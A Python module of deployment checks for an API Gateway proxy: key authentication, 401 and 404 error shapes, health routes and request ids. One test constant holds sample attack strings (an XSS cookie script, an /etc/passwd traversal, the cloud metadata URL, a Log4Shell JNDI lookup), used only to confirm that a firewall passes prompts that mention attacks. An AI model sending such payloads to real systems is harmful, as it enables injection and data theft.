"""Checks authentication: valid keys pass, others get a 401."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import Final

from edgeway.aws.admittance import LIMIT, wait_until_known
from edgeway.doctor.deployment import Answer, Deployment
from edgeway.doctor.findings import Finding, judged

WRONG_KEY: Final = "ew-doctor-a-key-that-nobody-has"
MODELS: Final = "/v1/models?limit=1"
HELLO: Final = {"max_tokens": 16, "messages": [{"role": "user", "content": "Hello"}]}
ALARMING: Final = (
    "<script>alert(document.cookie)</script> ../../../../etc/passwd http://169.254.169.254/latest/meta-data/ "
    "${jndi:ldap://example.com/a}"
)
"""What firewalls look for, and what anybody may ask a model about."""
GATEWAY_RESPONSES: Final = "GatewayResponses in template.yaml"


def shape_faults(answer: Answer, status: int, error_type: str) -> list[str]:
    """Return the faults of an error's shape: status, type, message, request id."""
    faults = []
    if answer.status != status:
        faults.append(f"status {answer.status}, not {status}")
    if not answer.error:
        faults.append(f"not Anthropic's shape: {answer.summary()}")
    elif answer.error.get("type") != error_type:
        faults.append(f"type {answer.error.get('type')}, not {error_type}")
    elif not answer.error.get("message") or "$context" in answer.error["message"]:
        faults.append(f"message {answer.error.get('message')!r}")
    if not answer.headers.get("request-id"):
        faults.append("no request-id")
    return faults


def answers_without_a_key(deployment: Deployment) -> list[Finding]:
    """Check the base URL without a key, since clients probe it."""
    findings = []
    for method, path in (("GET", "/"), ("HEAD", "/"), ("GET", "/api/hello")):
        answer = deployment.ask(method, path, headers={})
        faults = [] if answer.status == 200 else [answer.summary()]
        advice = "The health routes need no key: look at HealthFunction in template.yaml."
        findings.append(judged(f"{method} {path} without a key", faults, answer.summary(), advice))
    return findings


def waits_for_the_key(
    deployment: Deployment, pause: Callable[[float], None], told: Callable[[str], None]
) -> list[Finding]:
    """Wait until API Gateway knows a new key. Where it refuses none, there is no finding."""

    def ask() -> int:
        return deployment.ask("GET", MODELS).status

    awaited: list[str] = []

    def note() -> None:
        awaited.append(f"API Gateway knows the key ({LIMIT:.0f} s at most)")
        told(f"waiting until {awaited[0]}")

    found = wait_until_known(ask, clock=deployment.clock, pause=pause, told=note)
    if not awaited:
        return []
    check, seconds = "API Gateway knows the key", f"{found.seconds:.0f} s"
    if found.is_known:
        return [Finding(check, "noted", f"after {seconds}", "It was new: it takes up to a minute.")]
    return [Finding(check, "failed", f"not after {seconds}", "Is it in a plan? `edgeway keys show KEY --stack NAME`")]


def takes_either_header(deployment: Deployment) -> list[Finding]:
    """Check both headers: the SDKs send x-api-key, Claude Code sends Authorization: Bearer."""
    ways: Mapping[str, Mapping[str, str]] = {
        "x-api-key": deployment.as_api_key,
        "Authorization: Bearer": deployment.as_bearer,
    }
    findings = []
    for name, headers in ways.items():
        answer = deployment.ask("GET", MODELS, headers=headers)
        faults = [] if answer.status == 200 else [answer.summary()]
        findings.append(judged(f"a key as {name}", faults, answer.summary(), _advice_on_refusal(answer)))
    return findings


def _advice_on_refusal(answer: Answer) -> str:
    match answer.status:
        case 401:
            return "Is the key right? `edgeway keys list`. If it is, look at the authorizer's log."
        case 403:
            return "API Gateway does not know it, or it is in no plan: repair it by `edgeway keys update KEY`."
        case _:
            return "Look at the log of AuthorizerFunction and ModelsFunction."


def refuses_other_keys(deployment: Deployment) -> list[Finding]:
    """Check that other keys are refused, by the authorizer and API Gateway's ACCESS_DENIED response."""
    refused: Mapping[str, Mapping[str, str]] = {
        "a wrong x-api-key": {"x-api-key": WRONG_KEY},
        "a wrong bearer": {"authorization": f"Bearer {WRONG_KEY}"},
        "no key": {},
    }
    advice = f"Look at ACCESS_DENIED and UNAUTHORIZED under {GATEWAY_RESPONSES}."
    findings = []
    for name, headers in refused.items():
        answer = deployment.ask("POST", "/v1/messages", {"model": "gpt-5", **HELLO}, headers=headers)
        faults = shape_faults(answer, 401, "authentication_error")
        if answer.headers.get("x-should-retry") != "false":
            faults.append("no x-should-retry: false, without which Claude Code repeats it for minutes")
        findings.append(judged(f"{name} is a 401", faults, f"{answer.error.get('message')}", advice))
    return findings


def knows_no_other_route(deployment: Deployment) -> list[Finding]:
    """Check an unknown route. API Gateway reports it as a missing token, or as a broken signature."""
    advice = f"Look at MISSING_AUTHENTICATION_TOKEN and INVALID_SIGNATURE under {GATEWAY_RESPONSES}."
    findings = []
    for name, headers in (("x-api-key", deployment.as_api_key), ("a bearer", deployment.as_bearer)):
        answer = deployment.ask("POST", "/v1/messages/batches", {"requests": []}, headers=headers)
        faults = shape_faults(answer, 404, "not_found_error")
        findings.append(judged(f"an unknown route with {name} is a 404", faults, answer.summary(), advice))
    return findings


def takes_prompts_as_they_are(deployment: Deployment) -> list[Finding]:
    """Check that no firewall refuses a prompt that only mentions an attack. The function itself refuses the request."""
    body = {"model": "gpt-5", **HELLO, "max_tokens": -1, "system": ALARMING}
    answer = deployment.ask("POST", "/v1/messages", body)
    faults = shape_faults(answer, 400, "invalid_request_error")
    advice = "A firewall refuses prompts: let its rules that look into bodies count, as stacks/firewall.yaml does."
    return [judged("a prompt that holds markup and paths arrives", faults, answer.summary(), advice)]


def names_each_request(deployment: Deployment) -> list[Finding]:
    """Check that header and body carry the same request id, by which the logs are searched."""
    body = {"model": "gpt-5", **HELLO, "max_tokens": -1}
    answers = [deployment.ask("POST", "/v1/messages", body) for _ in range(2)]
    first, second = (answer.headers.get("request-id", "") for answer in answers)
    faults = shape_faults(answers[0], 400, "invalid_request_error")
    if first != answers[0].json.get("request_id"):
        faults.append(f"request-id {first!r}, in the body {answers[0].json.get('request_id')!r}")
    if first == second:
        faults.append("two requests have one request-id")
    return [judged("a 400 has its shape and its request-id", faults, first, "Look at MessagesFunction.")]
